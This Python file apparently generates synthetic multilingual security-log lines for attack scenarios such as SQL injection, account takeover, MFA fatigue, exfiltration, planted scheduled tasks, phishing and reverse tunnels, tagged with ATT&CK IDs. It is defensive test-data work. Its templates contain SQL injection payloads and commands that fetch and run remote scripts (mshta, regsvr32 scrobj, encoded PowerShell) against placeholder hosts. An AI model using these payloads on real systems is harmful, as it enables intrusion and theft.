"""Break-ins as programs tell them in other languages: poisoned input, stolen accounts, copied data, planted tasks and tools."""

from generator.families.applications.product import story
from generator.families.applications.tongue_products import desk, gateway, guard, office
from generator.scene import attack

story("applications/tongue-input-poisoned", [office], r"""
W Ungültige Eingabe im Feld <Suche|Kundennummer>: <' OR 1=1 -- |1' UNION SELECT name,kennwort FROM benutzer--|'; DROP TABLE kunden;-->

E Datenbankfehler bei Abfrage: Kunde = '<' or 'a'='a|1' AND SLEEP(5)-->' von {peer1}

W Saisie refusée dans le champ <recherche|nom> : <' OR '1'='1|1 UNION SELECT null,mot_de_passe FROM utilisateurs-->

E Erreur SQL près de '<' UNION SELECT login,passe FROM comptes--|1' and extractvalue(1,concat(0x7e,version()))-->'

W Valor no válido en el campo usuario: <admin'--|' OR 1=1#|1'; WAITFOR DELAY '0:0:5'-->

W Valore non valido nel campo codice: <' UNION SELECT 1,@@version--|x' OR 'x'='x>

W Ongeldige invoer in veld zoeken: <' OR 1=1--|1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)>

W Nieprawidłowa wartość pola login: <admin' or '1'='1|' UNION SELECT haslo FROM uzytkownicy-->

W Entrada inválida no campo CPF: <' OR ''='|1' UNION ALL SELECT null,senha FROM usuarios-->

W Geçersiz giriş (alan: arama): <' OR 1=1--|1' UNION SELECT sifre FROM kullanicilar-->

W Недопустимое значение поля поиск: <' OR 1=1 -- |1' UNION SELECT пароль FROM пользователи--|1;SELECT pg_sleep(5)-->

W 入力値エラー 検索: <' OR 1=1--|1' UNION SELECT password FROM users-->

W 参数异常 字段 关键字: <' or 1=1#|1' and updatexml(1,concat(0x7e,user()),1)#|-1 union select 1,2,database()>

W قيمة غير صالحة في الحقل: <' OR 1=1--|1' UNION SELECT password FROM users-->
""", attack("SQL Injection — Union/Boolean SQLi", "T1190"))

story("applications/tongue-accounts-taken", [office, gateway], r"""
W Viaje imposible: {user1} entró desde Madrid y desde <Lagos|Hanói> en {few} minutos

W Accesso impossibile: {user1} da Milano e da <Lagos|Mosca> in {few} minuti, metodo MFA cambiato

W Onmogelijke reis: {user1} meldde zich binnen {few} minuten aan vanuit Utrecht en <Lagos|Jakarta>

W Login de {user1} de país incomum, dispositivo novo e MFA removido

W Вход {user1} из необычной страны, токен второго фактора заменён сразу после входа с {peer1}

W {user1} が数分以内に日本と<ロシア|ナイジェリア>からサインインしました。MFA 方法が変更されました

W 异地登录: {user1} {few} 分钟内从 上海 和 <拉各斯|莫斯科> 登录, 随后修改了绑定手机

W سفر مستحيل: {user1} سجل الدخول من بلدين خلال {few} دقائق وتم تغيير المصادقة
""", attack("Account Takeover", "T1078.004", "T1556.006"))

story("applications/tongue-approvals-worn-down", [office, gateway], r"""
W Anmeldung von {user1} aus <Nigeria|Vietnam|Russland>, {few} Minuten nach Anmeldung aus Deutschland; Zwei-Faktor-Anfrage {n}-mal abgelehnt, dann bestätigt

W Connexion de {user1} depuis un pays inhabituel, {n} demandes MFA refusées puis une acceptée

W Użytkownik {user1}: {n} żądań MFA odrzuconych, następnie zatwierdzone z {peer1}

W {user1} için {n} MFA isteği reddedildi, sonra onaylandı ({peer1})

W {user1}: {n} solicitudes MFA rechazadas y una aprobada desde {peer1}

W {n} richieste MFA rifiutate da {user1}, poi una approvata da {peer1}

W {user1} の MFA 要求が {n} 回拒否された後に承認されました ({peer1})

W {user1} 的 MFA 推送被拒绝 {n} 次后被批准 来源 {peer1}

W Пользователь {user1} отклонил {n} запросов MFA, затем один подтверждён с {peer1}
""", attack("Account Takeover", "T1621", "T1078.004"))

story("applications/tongue-second-factors-removed", [office, gateway], r"""
W Zweiter Faktor von {user1} entfernt und neues Gerät registriert aus {peer1}, Sitzung ohne bekannte Adresse

W Méthode MFA supprimée pour {user1} par une session inconnue ({peer1})

W Método MFA de {user1} eliminado y dispositivo nuevo registrado desde {peer1}

W Metodo MFA rimosso per {user1} da sessione sconosciuta ({peer1})

W MFA uitgeschakeld voor alle beheerders door {user1} vanaf {peer1}

W Uwierzytelnianie dwuskładnikowe wyłączone dla <administratorów|{user1}> z nieznanego adresu {peer1}

W Второй фактор <администратора|{user1}> отключён с неизвестного адреса {peer1}

W {user1} の多要素認証が不明な端末から無効化されました ({peer1})

W {user1} 的双因素认证被陌生会话关闭 来源 {peer1}
""", attack("Account Takeover", "T1556.006", "T1098.005"))

story("applications/tongue-data-carried-off", [office, gateway], r"""
W {user1} hat {big} Kundendatensätze exportiert und an {strange1} gesendet

W Ungewöhnlicher Upload: {n} GB von {pc1} zu {strange1} <per rclone|an Mega|über FTP>

W Téléversement inhabituel : {n} Go depuis {pc1} vers {strange1}

W Export de la base complète par {user1} vers {strange1} via <rclone|FTP|WebDAV>

W Subida anómala: {n} GB a {strange1} con rclone desde {pc1}

W Caricati {n} GB verso {strange1} da {pc1} fuori orario tramite rclone

W Ongebruikelijke upload van {n} GB naar {strange1} door {user1}

W Wysłano {n} GB danych klientów do {strange1} (rclone)

W Envio anormal de {n} GB para {strange1}, usuário {user1}, base de clientes

W Olağandışı yükleme: {n} GB, hedef {strange1}, müşteri veritabanı

W Аномальная выгрузка: {n} ГБ на {strange1}, пользователь {user1}, база клиентов

W 異常なアップロード: {n} GB を {strange1} へ送信 (rclone)

W 异常外发: {user1} 向 {strange1} 上传 {n} GB 客户资料

W رفع غير معتاد: {n} GB إلى {strange1} بواسطة {user1}
""", attack("Potential Data Exfiltration", "T1567.002", "T1041", severity="CRITICAL"))

story("applications/tongue-tasks-planted", [desk], r"""
I Geplante Aufgabe "\{word1}" erstellt, Aktion: <powershell -w hidden -enc {hex}|C:\Users\Public\{word1}.exe|mshta http://{peer1}/a.hta>, Auslöser: beim Anmelden

I Befehlszeile: schtasks /create /tn {word1} /tr <C:\Windows\Temp\{word1}.exe|"cmd /c C:\Users\Public\{word1}.bat"> /sc minute /mo {few} /ru SYSTEM
I ERFOLGREICH: Die geplante Aufgabe "{word1}" wurde erstellt.

I Tâche planifiée "\{word1}" créée, action : <wscript C:\Users\Public\{word1}.vbs|powershell -nop -w hidden -c IEX>

I Tarea programada "\{word1}" creada, acción: <C:\PerfLogs\{word1}.exe|rundll32 C:\Users\Public\{word1}.dll,Start>

I Attività pianificata "\{word1}" creata: <C:\Users\Public\{word1}.exe|regsvr32 /s /u /i:http://{peer1}/x.sct scrobj.dll>

I Geplande taak "\{word1}" gemaakt, actie: <C:\Windows\Temp\{word1}.exe|powershell -enc {hex}>

I Utworzono zadanie "\{word1}": <C:\Users\Public\{word1}.exe|mshta http://{peer1}/b.hta>

I Tarefa agendada "\{word1}" criada: C:\Users\Public\{word1}.<exe|vbs|bat>

I Zamanlanmış görev "\{word1}" oluşturuldu: C:\<Users\Public|Windows\Temp>\{word1}.exe

I Создана задача "\{word1}", действие: <powershell -w hidden -enc {hex}|C:\Users\Public\{word1}.exe|C:\Windows\Temp\{word1}.bat>

I タスク "\{word1}" が登録されました。操作: <C:\Users\Public\{word1}.exe|powershell -enc {hex}>

I 已创建计划任务 "\{word1}" 操作: <C:\Users\Public\{word1}.exe|mshta http://{peer1}/c.hta|powershell -w hidden -enc {hex}>

I تم إنشاء المهمة "\{word1}": C:\<Users\Public|Windows\Temp>\{word1}.exe
""", attack("Windows Threat: Scheduled Task Created", "T1053.005"))

story("applications/tongue-lures-delivered", [office], r"""
W Nachricht "<Offene Rechnung {big}|Ihr Postfach ist voll|Mahnung>" mit Anhang <Rechnung.pdf.exe|Mahnung.js|Scan.iso> wurde zugestellt an {mail}; {user1} hat den Anhang geöffnet

W Nachträglich als Phishing erkannt: {few} Empfänger haben auf http://{strange1}/<anmelden|login> geklickt und ihr Kennwort eingegeben

W Pièce jointe <facture.pdf.js|relance.iso|document.hta> ouverte par {user1}, expéditeur usurpé

W Hameçonnage remis à {mail} : lien http://{strange1}/connexion cliqué par {few} personnes

W Adjunto malicioso <factura.zip.exe|pago.vbs|pedido.iso> entregado a {mail} y abierto

W Phishing consegnato a {mail}: link http://{strange1}/accesso, credenziali inserite da {user1}

W Phishingmail afgeleverd bij {mail}, bijlage <factuur.pdf.exe|betaling.js> geopend

W Złośliwy załącznik <faktura.pdf.js|zaleglosc.iso> otwarty przez {user1}

W Anexo malicioso <boleto.pdf.exe|nota_fiscal.vbs> aberto por {user1}

W Oltalama iletisi teslim edildi: {mail}, ek <fatura.pdf.exe|dekont.js> açıldı

W Фишинговое письмо доставлено {mail}, вложение <счет.pdf.exe|акт_сверки.js|накладная.iso> открыто

W フィッシングメールが配信されました: {mail} 添付 <請求書.pdf.exe|見積書.js> が開かれました

W 钓鱼邮件已投递 {mail} 附件 <发票.pdf.exe|工资补贴.iso|对账单.vbs> 已被打开

W تم تسليم رسالة تصيد إلى {mail} وفتح المرفق <فاتورة.pdf.exe|طلب.js>
""", attack("Phishing or Malicious Mail", "T1566.001", "T1566.002"))

story("applications/tongue-remote-tools-hidden", [guard, desk], r"""
W Fernwartung <AnyDesk|Atera|ScreenConnect|RustDesk> wurde aus C:\<Users\Public|Windows\Temp|PerfLogs>\ ohne Fenster gestartet (--silent), Kennwort gesetzt durch {word1}

W <AnyDesk|Ngrok|Chisel> lancé depuis C:\Users\Public\ avec --silent, tunnel vers {strange1}

W <AnyDesk|RustDesk|ngrok> ejecutado desde C:\PerfLogs\ sin ventana, túnel RDP hacia {strange1}

W RustDesk gestart vanuit C:\Users\Public\ zonder venster, wachtwoord ingesteld door {word1}

W <AnyDesk|Atera|MeshAgent> avviato da C:\<PerfLogs|Windows\Temp>\ con --silent da {word1}.exe

W <AnyDesk|ScreenConnect> uruchomiony z C:\Users\Public\ bez okna przez {word1}.exe

W <AnyDesk|RustDesk|AeroAdmin> запущен из C:\Users\Public\ скрытно, пароль задан процессом {word1}.exe

W <AnyDesk|ToDesk|向日葵> 由 {word1}.exe 从 C:\Users\Public\ 静默启动

W <AnyDesk|RustDesk> が C:\Users\Public\ から非表示で起動されました
""", attack("Command and Control", "T1219"))

story("applications/tongue-programs-calling-home", [guard, desk], r"""
W Verbindung von {word1}.exe (C:\Users\Public) zu {strange1}:{port} alle {n} Sekunden

W Processus {word1}.exe (C:\Windows\Temp) contacte {strange1} toutes les {n} s

W Proces C:\Users\Public\{word1}.exe łączy się z {strange1} co {n} s

W C:\Users\Public\{word1}.exe her {n} saniyede bir {strange1} adresine bağlanıyor

W C:\Windows\Temp\{word1}.exe が {n} 秒ごとに {strange1} へ接続しています

W 进程 C:\Users\Public\{word1}.exe 每 {n} 秒回连 {strange1}:{port}

W العملية C:\Users\Public\{word1}.exe تتصل بـ {strange1} كل {n} ثانية
""", attack("Command and Control", "T1071.001"))

story("applications/tongue-tunnels-opened", [guard, desk], r"""
W Tunnel inverso RDP aperto da {word1}.exe verso {strange1}:{port}

W Omgekeerde tunnel naar {strange1} geopend door C:\Users\Public\{word1}.exe

W Túnel reverso para {strange1} criado por C:\Windows\Temp\{word1}.exe

W Процесс C:\Users\Public\{word1}.exe устанавливает обратный туннель к {strange1}:{port}

W Umgekehrter Tunnel von {word1}.exe zu {strange1}:{port} geöffnet (RDP)

W Tunnel inverse ouvert par C:\Users\Public\{word1}.exe vers {strange1}:{port}

W Odwrócony tunel do {strange1} otwarty przez C:\Windows\Temp\{word1}.exe

W C:\Users\Public\{word1}.exe が {strange1}:{port} への逆方向トンネルを開きました

W 进程 C:\Users\Public\{word1}.exe 建立反向隧道至 {strange1}:{port}
""", attack("Command and Control", "T1572", "T1090"))

story("applications/tongue-ports-swept", [gateway], r"""
*W Portscan erkannt von {peer1}: Port {port}

W Portscan von {peer1} erkannt, {many} Ports in {n} Sekunden

*W Balayage de ports détecté depuis {peer1} : port {port}

W Exploración de puertos detectada desde {peer1}: {many} puertos

W Scansione delle porte rilevata da {peer1}: {many} porte

*W Poortscan gedetecteerd vanaf {peer1}: poort {port}

W Wykryto skanowanie portów z {peer1}: {many} portów

W Varredura de portas detectada: origem {peer1}, {many} portas

W Port taraması algılandı: kaynak {peer1}, {many} port

*W Обнаружено сканирование портов с {peer1}: порт {port}

W ポートスキャンを検出: 送信元 {peer1} 対象ポート数 {many}

*W 检测到端口扫描 源 {peer1} 端口 {port}

W تم اكتشاف فحص للمنافذ من {peer1}: عدد المنافذ {many}
""", attack("Port or Network Scan", "T1046", "T1595.001", severity="MEDIUM"))
